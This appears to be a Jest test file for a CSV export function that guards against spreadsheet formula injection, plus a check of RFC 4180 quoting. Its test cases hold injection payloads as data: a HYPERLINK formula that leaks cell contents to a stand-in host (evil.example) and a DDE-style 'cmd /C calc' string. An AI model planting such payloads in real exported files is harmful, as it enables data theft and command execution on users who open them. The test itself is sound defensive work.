import { parse } from 'csv-parse/sync';
import { PassThrough, Readable } from 'node:stream';
import { text } from 'node:stream/consumers';
import { writeCsv } from '../../src/platform/common/csv';

const csvOf = async (cells: (string | number | null)[]): Promise<string> => {
  const out = new PassThrough();
  const written = text(out);
  await writeCsv(
    Readable.from(cells.map((cell) => ({ cell }))),
    [{ header: 'cell', value: (row: { cell: string | number | null }) => row.cell }],
    out,
  );
  return written;
};

describe('CSV exports', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?leak=" & A1, "Click")'],
    ['\t=HYPERLINK("http://evil.example")'],
    ['\r=HYPERLINK("http://evil.example")'],
    ['+1+cmd|" /C calc"!A0'],
    ['-2+3'],
    ['@SUM(A1:A9)'],
    ['\uFF1D1+1'],
  ])('neutralises a formula-looking cell: %j', async (cell) => {
    const [[header], [value]] = parse(await csvOf([cell])) as string[][];
    expect(header).toBe('cell');
    expect(value).toBe(`'${cell}`);
  });

  it('keeps ordinary text, negative numbers and empty cells as they are, and quotes what RFC 4180 says to', async () => {
    const csv = await csvOf(['Acme, "Widgets"', 'line one\nline two', 'carriage\rreturn', -12.5, null, 'plain']);
    expect(csv).toBe('cell\r\n"Acme, ""Widgets"""\r\n"line one\nline two"\r\n"carriage\rreturn"\r\n-12.5\r\n\r\nplain\r\n');
    expect(parse(csv)).toEqual([['cell'], ['Acme, "Widgets"'], ['line one\nline two'], ['carriage\rreturn'], ['-12.5'], [''], ['plain']]);
  });
});
